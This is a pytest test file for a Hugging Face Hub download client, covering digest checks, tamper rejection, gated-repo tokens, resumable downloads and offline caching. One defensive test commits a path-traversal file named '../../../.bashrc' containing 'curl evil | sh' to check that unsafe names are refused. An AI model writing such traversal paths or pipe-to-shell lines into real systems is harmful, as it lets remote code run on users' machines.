"""The real huggingface_hub client against the local Hub server: pins, digests, auth, resume."""

from __future__ import annotations

import hashlib
import os
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from huggingface_hub.file_download import get_hf_file_metadata, hf_hub_url

from bundler.demo.hubserver import HubServer
from bundler.demo.tinymodel import TinyModelOptions, write_tiny_model
from bundler.errors import FetchError, IntegrityError
from bundler.sources.hub import FetchedFile, HubClient, HubSettings, git_blob_id

REPO = "org/tiny"
CARD = b"---\nlicense: apache-2.0\n---\n# tiny\n"


@pytest.fixture(scope="module")
def model_bytes(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    d = tmp_path_factory.mktemp("model")
    (p,) = write_tiny_model(d / "tiny.gguf", TinyModelOptions(dim=128, ff=256))
    return p.read_bytes()


@pytest.fixture
def hub(monkeypatch: pytest.MonkeyPatch, model_bytes: bytes) -> Iterator[HubServer]:
    with HubServer() as server:
        server.add_repo(REPO, {"tiny.gguf": model_bytes, "README.md": CARD})
        monkeypatch.setenv("HF_ENDPOINT", server.endpoint)
        yield server


def _client(offline: bool = False) -> HubClient:
    return HubClient(HubSettings.from_env(offline=offline))


def _fetch_gguf(client: HubClient, commit: str, data: bytes) -> Path:
    sha = hashlib.sha256(data).hexdigest()
    return client.fetch(
        REPO, commit, "tiny.gguf", size=len(data), lfs_sha256=sha, blob_id=None, sha256=sha
    ).path


def _storage(settings: HubSettings) -> Path:
    return settings.cache_dir / "models--org--tiny"


def _gets(hub: HubServer, path: str) -> list[dict[str, str]]:
    return [h for (m, p, h) in hub.requests if m == "GET" and p.endswith("/" + path)]


def test_resolves_branch_to_commit_and_lists_digests(hub: HubServer, model_bytes: bytes) -> None:
    client = _client()
    snap = client.resolve(REPO, "main")
    assert snap.commit == hub.repos[REPO].refs["main"]
    files = {f.path: f for f in snap.files}
    assert files["tiny.gguf"].lfs_sha256 == hashlib.sha256(model_bytes).hexdigest()
    assert files["tiny.gguf"].size == len(model_bytes)
    assert files["README.md"].lfs_sha256 is None
    assert files["README.md"].blob_id == git_blob_id(CARD)
    ref = _storage(client.settings) / "refs" / "main"
    assert ref.read_text() == snap.commit  # the HF cache layout other tools read


def test_resolves_tag_and_rejects_unknown_revision(hub: HubServer) -> None:
    commit = hub.repos[REPO].refs["main"]
    hub.tag(REPO, "v1", commit)
    assert _client().resolve(REPO, "v1").commit == commit
    with pytest.raises(FetchError, match="revision not found"):
        _client().resolve(REPO, "no-such-branch")


def test_fetch_checks_digest_and_fills_hub_cache(hub: HubServer, model_bytes: bytes) -> None:
    client = _client()
    commit = client.resolve(REPO, "main").commit
    blob = _fetch_gguf(client, commit, model_bytes)
    sha = hashlib.sha256(model_bytes).hexdigest()
    assert blob == _storage(client.settings) / "blobs" / sha
    assert blob.read_bytes() == model_bytes
    pointer = _storage(client.settings) / "snapshots" / commit / "tiny.gguf"
    assert pointer.is_symlink() and pointer.resolve() == blob.resolve()
    methods = [m for (m, p, _) in hub.requests if p.endswith("/tiny.gguf")]
    assert methods == ["HEAD", "GET"]
    assert not list(blob.parent.glob("*.airlock-partial"))


def test_small_file_checked_against_git_blob_id(hub: HubServer) -> None:
    client = _client()
    commit = client.resolve(REPO, "main").commit
    got = client.fetch(
        REPO, commit, "README.md", size=len(CARD), lfs_sha256=None, blob_id=git_blob_id(CARD)
    )
    assert got.sha256 == hashlib.sha256(CARD).hexdigest()
    assert got.path.name == git_blob_id(CARD)


def test_rejects_tampered_file_served_under_original_digest(
    hub: HubServer, model_bytes: bytes
) -> None:
    client = _client()
    commit = client.resolve(REPO, "main").commit
    evil = bytearray(model_bytes)
    evil[-100] ^= 0xFF
    hub.faults.tampered[(REPO, "tiny.gguf")] = bytes(evil)
    with pytest.raises(IntegrityError) as e:
        _fetch_gguf(client, commit, model_bytes)
    text = e.value.render()
    assert "tiny.gguf" in text
    assert hashlib.sha256(model_bytes).hexdigest() in text
    assert hashlib.sha256(evil).hexdigest() in text
    blobs = _storage(client.settings) / "blobs"
    assert list(blobs.iterdir()) == []  # nothing cached, no partial kept


def test_rejects_tampered_small_file_by_blob_id(hub: HubServer) -> None:
    client = _client()
    commit = client.resolve(REPO, "main").commit
    hub.faults.tampered[(REPO, "README.md")] = CARD.replace(b"apache-2.0", b"mit-ish!!!")
    with pytest.raises(IntegrityError, match=r"README\.md") as e:
        client.fetch(
            REPO, commit, "README.md", size=len(CARD), lfs_sha256=None, blob_id=git_blob_id(CARD)
        )
    assert any("git blob id" in p for p in e.value.problems)


def test_gated_repo_without_token_fails_clearly(
    monkeypatch: pytest.MonkeyPatch, model_bytes: bytes
) -> None:
    with HubServer() as server:
        server.add_repo("org/gated", {"m.gguf": model_bytes}, gated=True)
        monkeypatch.setenv("HF_ENDPOINT", server.endpoint)
        with pytest.raises(FetchError, match="gated") as e:
            _client().resolve("org/gated", "main")
        assert e.value.hint is not None and "HF_TOKEN" in e.value.hint
        monkeypatch.setenv("HF_TOKEN", "wrong")
        with pytest.raises(FetchError, match="gated"):
            _client().resolve("org/gated", "main")


def test_gated_repo_with_token(monkeypatch: pytest.MonkeyPatch, model_bytes: bytes) -> None:
    with HubServer() as server:
        commit = server.add_repo("org/gated", {"m.gguf": model_bytes}, gated=True)
        monkeypatch.setenv("HF_ENDPOINT", server.endpoint)
        monkeypatch.setenv("HF_TOKEN", server.token)
        client = _client()
        snap = client.resolve("org/gated", "main")
        assert snap.commit == commit and snap.gated is True
        sha = hashlib.sha256(model_bytes).hexdigest()
        got = client.fetch(
            "org/gated", commit, "m.gguf", size=len(model_bytes), lfs_sha256=sha, blob_id=None
        )
        assert got.path.read_bytes() == model_bytes
        auth = [h.get("authorization") for (m, _, h) in server.requests if m == "GET"]
        assert auth and all(a == f"Bearer {server.token}" for a in auth)


def test_missing_repo_and_missing_file(hub: HubServer) -> None:
    with pytest.raises(FetchError, match="not found"):
        _client().resolve("org/nope", "main")
    commit = hub.repos[REPO].refs["main"]
    with pytest.raises(FetchError, match="not found"):
        _client().fetch(REPO, commit, "gone.gguf", size=1, lfs_sha256="0" * 64, blob_id=None)


def test_dropped_connection_is_resumed_from_the_exact_byte(
    hub: HubServer, model_bytes: bytes
) -> None:
    client = _client()
    commit = client.resolve(REPO, "main").commit
    cut = len(model_bytes) // 3 + 7
    hub.faults.drop_after[(REPO, "tiny.gguf")] = cut
    blob = _fetch_gguf(client, commit, model_bytes)
    assert blob.read_bytes() == model_bytes
    assert [h.get("range") for h in _gets(hub, "tiny.gguf")] == [None, f"bytes={cut}-"]


def test_gives_up_after_repeated_drops_and_keeps_the_partial(
    hub: HubServer, model_bytes: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("bundler.sources.download.time.sleep", lambda s: None)
    client = _client()
    commit = client.resolve(REPO, "main").commit
    cut = 1000
    hub.faults.drop_after[(REPO, "tiny.gguf")] = cut
    # After the first drop, every resume is dropped before its first byte.
    original = hub.faults.drop_after

    class AlwaysDrop(dict):  # type: ignore[type-arg]
        def pop(self, key: object, default: object = None) -> object:
            return original.pop(key, 0)  # type: ignore[call-overload]

    hub.faults.drop_after = AlwaysDrop()
    with pytest.raises(FetchError, match="cannot download"):
        _fetch_gguf(client, commit, model_bytes)
    sha = hashlib.sha256(model_bytes).hexdigest()
    partial = _storage(client.settings) / "blobs" / f"{sha}.airlock-partial"
    assert partial.read_bytes() == model_bytes[:cut]  # the next run resumes from here
    hub.faults.drop_after = {}
    assert _fetch_gguf(client, commit, model_bytes).read_bytes() == model_bytes
    assert _gets(hub, "tiny.gguf")[-1].get("range") == f"bytes={cut}-"


def test_interrupted_run_resumes_from_partial_and_hashes_it(
    hub: HubServer, model_bytes: bytes
) -> None:
    client = _client()
    commit = client.resolve(REPO, "main").commit
    sha = hashlib.sha256(model_bytes).hexdigest()
    blobs = _storage(client.settings) / "blobs"
    blobs.mkdir(parents=True)
    half = len(model_bytes) // 2
    (blobs / f"{sha}.airlock-partial").write_bytes(model_bytes[:half])
    blob = _fetch_gguf(client, commit, model_bytes)
    assert blob.read_bytes() == model_bytes
    assert [h.get("range") for h in _gets(hub, "tiny.gguf")] == [f"bytes={half}-"]


def test_server_ignoring_range_restarts_and_rehashes(hub: HubServer, model_bytes: bytes) -> None:
    # A partial whose bytes are wrong would poison the digest if the restart kept them.
    client = _client()
    commit = client.resolve(REPO, "main").commit
    sha = hashlib.sha256(model_bytes).hexdigest()
    blobs = _storage(client.settings) / "blobs"
    blobs.mkdir(parents=True)
    (blobs / f"{sha}.airlock-partial").write_bytes(b"\xff" * 5000)
    hub.faults.ignore_range.add((REPO, "tiny.gguf"))
    blob = _fetch_gguf(client, commit, model_bytes)
    assert blob.read_bytes() == model_bytes
    assert [h.get("range") for h in _gets(hub, "tiny.gguf")] == ["bytes=5000-"]


def test_corrupt_partial_from_earlier_run_is_caught(hub: HubServer, model_bytes: bytes) -> None:
    client = _client()
    commit = client.resolve(REPO, "main").commit
    sha = hashlib.sha256(model_bytes).hexdigest()
    blobs = _storage(client.settings) / "blobs"
    blobs.mkdir(parents=True)
    (blobs / f"{sha}.airlock-partial").write_bytes(b"\0" * 1000)
    with pytest.raises(IntegrityError):
        _fetch_gguf(client, commit, model_bytes)
    assert list(blobs.iterdir()) == []


def test_offline_uses_cache_without_network_and_checks_digests(
    hub: HubServer, model_bytes: bytes
) -> None:
    client = _client()
    commit = client.resolve(REPO, "main").commit
    blob = _fetch_gguf(client, commit, model_bytes)
    before = len(hub.requests)
    assert _fetch_gguf(_client(offline=True), commit, model_bytes) == blob
    assert len(hub.requests) == before
    blob.write_bytes(model_bytes[:-1] + b"\x00")
    with pytest.raises(IntegrityError, match="does not match the lock"):
        _fetch_gguf(_client(offline=True), commit, model_bytes)
    blob.unlink()
    with pytest.raises(FetchError, match="not in the Hub cache"):
        _fetch_gguf(_client(offline=True), commit, model_bytes)
    with pytest.raises(FetchError, match="offline"):
        _client(offline=True).resolve(REPO, "main")


def test_hf_hub_offline_env_means_offline(
    hub: HubServer, monkeypatch: pytest.MonkeyPatch, model_bytes: bytes
) -> None:
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    assert _client().settings.offline
    with pytest.raises(FetchError, match="offline"):
        _client().resolve(REPO, "main")
    assert hub.requests == []


def test_corrupt_cache_is_fetched_again_when_online(hub: HubServer, model_bytes: bytes) -> None:
    client = _client()
    commit = client.resolve(REPO, "main").commit
    blob = _fetch_gguf(client, commit, model_bytes)
    blob.write_bytes(b"garbage")
    assert _fetch_gguf(client, commit, model_bytes).read_bytes() == model_bytes
    assert len(_gets(hub, "tiny.gguf")) == 2


def test_hub_metadata_disagreeing_with_lock_is_refused(hub: HubServer, model_bytes: bytes) -> None:
    client = _client()
    commit = client.resolve(REPO, "main").commit
    with pytest.raises(IntegrityError, match="differently than the lock"):
        client.fetch(
            REPO, commit, "tiny.gguf", size=len(model_bytes), lfs_sha256="1" * 64, blob_id=None
        )


def test_reuses_blobs_the_hub_client_already_cached(hub: HubServer, model_bytes: bytes) -> None:
    from huggingface_hub import hf_hub_download

    client = _client()
    commit = client.resolve(REPO, "main").commit
    cached = hf_hub_download(
        REPO,
        "tiny.gguf",
        revision=commit,
        cache_dir=client.settings.cache_dir,
        endpoint=hub.endpoint,
    )
    gets_before = len(_gets(hub, "tiny.gguf"))
    blob = _fetch_gguf(client, commit, model_bytes)
    assert Path(cached).resolve() == blob.resolve()
    assert len(_gets(hub, "tiny.gguf")) == gets_before  # no second download


def test_server_answers_paths_info_and_tree_like_the_hub(
    hub: HubServer, model_bytes: bytes
) -> None:
    from huggingface_hub import HfApi

    commit = hub.commit(
        REPO, {"tiny.gguf": model_bytes, "sub/config.json": b"{}", "README.md": CARD}
    )
    api = HfApi(endpoint=hub.endpoint, token=False)
    info = {
        p.path: p for p in api.get_paths_info(REPO, ["tiny.gguf", "README.md"], revision=commit)
    }
    assert info["tiny.gguf"].lfs is not None
    assert info["tiny.gguf"].lfs.sha256 == hashlib.sha256(model_bytes).hexdigest()
    assert info["README.md"].blob_id == git_blob_id(CARD) and info["README.md"].lfs is None
    top = sorted(e.path for e in api.list_repo_tree(REPO, revision=commit))
    assert top == ["README.md", "sub", "tiny.gguf"]
    every = sorted(e.path for e in api.list_repo_tree(REPO, revision=commit, recursive=True))
    assert every == ["README.md", "sub", "sub/config.json", "tiny.gguf"]
    # Answered as a plain LFS repo: no Xet headers, so the client never takes the Xet path.
    url = hf_hub_url(REPO, "tiny.gguf", revision=commit, endpoint=hub.endpoint)
    meta = get_hf_file_metadata(url, token=False, endpoint=hub.endpoint)
    assert meta.xet_file_data is None and meta.commit_hash == commit
    assert meta.etag == hashlib.sha256(model_bytes).hexdigest() and meta.size == len(model_bytes)


def test_rejects_mirror_listing_paths_that_escape_the_repo(
    hub: HubServer, model_bytes: bytes
) -> None:
    hub.commit(REPO, {"../../../.bashrc": b"curl evil | sh\n", "tiny.gguf": model_bytes})
    with pytest.raises(IntegrityError, match="unsafe names") as e:
        _client().resolve(REPO, "main")
    assert e.value.problems == ("'../../../.bashrc'",)
    with pytest.raises(FetchError, match="unsafe path"):
        _client().fetch(REPO, "c" * 40, "../x", size=1, lfs_sha256="0" * 64, blob_id=None)


def test_card_data_license_and_gated_flag_from_the_api(
    monkeypatch: pytest.MonkeyPatch, model_bytes: bytes
) -> None:
    with HubServer() as server:
        server.add_repo("org/l", {"m.gguf": model_bytes}, card_data={"license": "Llama3.1"})
        monkeypatch.setenv("HF_ENDPOINT", server.endpoint)
        snap = _client().resolve("org/l", "main")
        assert snap.card_license == "llama3.1" and snap.gated is False


def test_drop_after_many_batches_resumes_from_the_exact_byte(
    hub: HubServer, model_bytes: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Small hand-over batches: the cut falls mid-batch, after many batches were stored.
    from bundler.sources.download import HashingWriter

    monkeypatch.setattr(HashingWriter, "BATCH", 4096)
    monkeypatch.setattr(HashingWriter, "DEPTH", 2)
    client = _client()
    commit = client.resolve(REPO, "main").commit
    cut = len(model_bytes) - 12_345
    hub.faults.drop_after[(REPO, "tiny.gguf")] = cut
    blob = _fetch_gguf(client, commit, model_bytes)
    assert blob.read_bytes() == model_bytes
    assert [h.get("range") for h in _gets(hub, "tiny.gguf")] == [None, f"bytes={cut}-"]


def test_server_does_not_rehash_files_per_request(
    hub: HubServer, model_bytes: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The digests are computed once per file (a real Hub stores them): HEAD/GET/tree must
    # not pay a full-file hash each time, or the server, not the client, sets the pace.
    import bundler.demo.hubserver as hubserver

    client = _client()
    client.resolve(REPO, "main")  # digests known from here on

    def guarded(name: str) -> Any:
        real = getattr(hashlib, name)

        def digest(data: bytes = b"", **kwargs: bool) -> Any:
            if len(data) > 1024:  # LFS pointers (~134 bytes) may be hashed; the model not
                raise AssertionError(f"the test Hub rehashed {len(data)} bytes for a request")
            return real(data, **kwargs)

        return digest

    # Only the server module's view of hashlib: the client and this test hash as usual.
    monkeypatch.setattr(
        hubserver, "hashlib", SimpleNamespace(sha256=guarded("sha256"), sha1=guarded("sha1"))
    )
    snap = client.resolve(REPO, "main")
    commit = snap.commit
    assert _fetch_gguf(client, commit, model_bytes).read_bytes() == model_bytes
    got = client.fetch(
        REPO, commit, "README.md", size=len(CARD), lfs_sha256=None, blob_id=git_blob_id(CARD)
    )
    assert got.path.read_bytes() == CARD


def test_a_checked_old_cache_blob_comes_with_a_stamp_a_fresh_download_without(
    hub: HubServer, model_bytes: bytes
) -> None:
    """The stamp lets pack reuse the digest of a blob read moments ago (fsio.FileStamp)."""
    import time

    from bundler.fsio import FileStamp

    client = _client()
    commit = client.resolve(REPO, "main").commit
    sha = hashlib.sha256(model_bytes).hexdigest()

    def fetch() -> FetchedFile:
        return client.fetch(
            REPO, commit, "tiny.gguf", size=len(model_bytes), lfs_sha256=sha, blob_id=None
        )

    fresh = fetch()
    assert fresh.downloaded and fresh.stamp is None  # just written: too recent to vouch
    assert fetch().stamp is None  # still modified less than fsio.RACY_NS ago
    old = time.time_ns() - 3600 * 10**9
    os.utime(fresh.path, ns=(old, old))
    cached = fetch()
    assert not cached.downloaded
    assert cached.stamp == FileStamp.of(os.stat(fresh.path))
